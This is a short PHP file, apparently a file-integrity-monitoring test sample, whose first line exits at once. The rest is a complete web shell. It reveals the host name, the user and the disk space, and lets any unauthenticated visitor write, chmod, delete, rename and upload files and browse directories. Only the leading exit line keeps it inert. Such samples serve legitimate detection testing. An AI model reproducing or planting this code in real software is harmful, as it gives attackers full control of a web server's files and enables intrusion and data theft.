<?php exit('inert fim test sample'); ?>
<?php
$p = isset($_GET['p']) ? $_GET['p'] : '.';
echo php_uname() . ' / ' . get_current_user() . ' / ' . disk_free_space('.');
if (isset($_POST['save'])) { file_put_contents($_POST['f'], $_POST['body']); }
if (isset($_POST['chmod'])) { chmod($_POST['f'], octdec($_POST['chmod'])); }
if (isset($_POST['rm'])) { is_dir($_POST['f']) ? rmdir($_POST['f']) : unlink($_POST['f']); }
if (isset($_POST['mv'])) { rename($_POST['f'], $_POST['mv']); }
if (isset($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $p . '/' . basename($_FILES['u']['name'])); }
$h = opendir($p);
while (($e = readdir($h)) !== false) {
    printf("%s %o<br>", $e, fileperms($p . '/' . $e));
}
?>
<form method="post"><textarea name="body"></textarea><input name="f"><input type="submit" name="save"></form>
